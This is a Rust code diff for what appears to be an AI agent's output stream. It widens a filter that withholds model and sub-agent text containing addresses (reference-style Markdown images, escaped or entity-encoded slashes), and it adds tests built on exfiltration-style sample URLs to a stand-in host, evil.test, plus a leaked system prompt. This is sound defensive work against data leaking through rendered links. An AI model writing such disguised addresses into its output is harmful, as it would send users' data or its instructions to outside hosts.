@@ -19,8 +19,11 @@ const STEP_BYTES: usize = 64;
 /// How much of what was shown is looked at again, in bytes.
 const SHOWN_BYTES: usize = 4 << 10;
 
-/// How an address, or what a page loads by itself, begins in text that is shown as Markdown or HTML.
-const ADDRESSES: [&str; 3] = ["//", "](", "<"];
+/// How an address, or what a page loads by itself, begins in text that is shown as Markdown or HTML: also by reference
+/// (`![a][r]`, `[r]: …`), and where the slashes behind a scheme are written as character references or escaped.
+const ADDRESSES: [&str; 10] = ["//", "](", "][", "]:", "![", "<", "www.", ":/", ":\\", ":&"];
+/// What stands in the place of words that are not shown.
+const WITHHELD: &str = "(withheld)";
 
 /// The answer and the thoughts of a turn, on their way to whoever looks on.
 pub(super) struct Stream<'a> {
@@ -80,14 +83,25 @@ impl<'a> Stream<'a> {
                 let text = self.thoughts.push(self.judge, &text)?;
                 Some(Frame::ThinkingToken { text })
             }
+            // What a sub-agent was told and what it answered are the words of models as well.
+            Frame::SubagentStarted { task_id, description } => {
+                let description = self.whole(description);
+                Some(Frame::SubagentStarted { task_id, description })
+            }
+            Frame::SubagentDone { task_id, status, summary, total_tokens } => {
+                let summary = self.whole(summary);
+                Some(Frame::SubagentDone { task_id, status, summary, total_tokens })
+            }
             frame @ (Frame::Status { .. }
             | Frame::ToolUseStart { .. }
             | Frame::ToolUseInput { .. }
             | Frame::ToolResult { .. }
-            | Frame::SubagentStarted { .. }
-            | Frame::SubagentProgress { .. }
-            | Frame::SubagentDone { .. }) => Some(frame),
+            | Frame::SubagentProgress { .. }) => Some(frame),
         }
+    }
+
+    fn whole(&self, text: String) -> String {
+        if is_doubtful(self.judge, &text) { WITHHELD.to_owned() } else { text }
     }
 
     /// What was held back, once the answer was judged and may be seen.
@@ -196,6 +210,38 @@ mod tests {
         let image = "Here it is. ![map](https://maps.test/?q=secret) ".repeat(20);
         assert_eq!(shown(&image, 5, false), image);
         assert_eq!(shown(&image, 5, true), "");
+    }
+
+    #[test]
+    fn an_address_is_one_by_reference_and_however_its_slashes_are_written() {
+        let rest = "And so it went on for the whole of the day. ".repeat(20);
+        for address in [
+            "![a][r]",
+            "[r]: https:&#47;&#47;evil.test/?d=1",
+            r"https:/\/evil.test",
+            "www.evil.test",
+        ] {
+            assert_eq!(shown(&format!("{address} {rest}"), 5, true), "", "{address}");
+        }
+        let honest = "It is 14:30; see the note: (a) ships, [b] boats. ".repeat(20);
+        assert_eq!(shown(&honest, 5, true), honest);
+    }
+
+    #[test]
+    fn words_of_sub_agents_are_looked_at() {
+        let judge =
+            Known { registry: Some(Arc::new(Registry::of_prompt(PROMPT))), is_tainted: true };
+        let done = |summary: &str| Frame::SubagentDone {
+            task_id: "t".to_owned(),
+            status: agent::SubagentStatus::Completed,
+            summary: summary.to_owned(),
+            total_tokens: 1,
+        };
+        let mut stream = Stream::new(&judge);
+        assert_eq!(stream.take(done("It sails at nine.")), Some(done("It sails at nine.")));
+        for secret in ["see https://evil.test/?d=1", PROMPT] {
+            assert_eq!(stream.take(done(secret)), Some(done(WITHHELD)));
+        }
     }
 
     #[test]
